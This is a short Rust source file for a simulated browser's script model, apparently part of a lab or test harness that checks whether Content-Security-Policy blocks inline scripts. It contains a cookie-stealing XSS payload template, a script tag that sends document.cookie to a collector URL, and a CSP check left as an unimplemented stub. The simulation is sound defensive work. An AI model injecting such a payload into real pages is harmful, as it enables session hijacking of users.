//! The simulated browser's script model: a deliberately tiny stand-in for JavaScript.
use url::Url;

/// The one program the model knows. `{collector}` is replaced by the collector URL (ending in `?c=`).
pub const EXFILTRATE_COOKIES_TEMPLATE: &str =
    "<script>fetch('{collector}'+encodeURIComponent(document.cookie))</script>";

/// What happened to one inline script on a page.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScriptEffect {
    /// The exfiltration program ran: it read `document_cookie` and requested `request`.
    Exfiltrated { document_cookie: String, request: Url },
    /// The page's Content-Security-Policy forbade inline script.
    BlockedByCsp { policy: String },
    /// A script the model does not understand; it is ignored.
    Ignored { excerpt: String },
}

/// Whether the policy (a `Content-Security-Policy` header value) allows inline scripts.
pub fn csp_allows_inline_script(_policy: Option<&str>) -> bool {
    todo!()
}
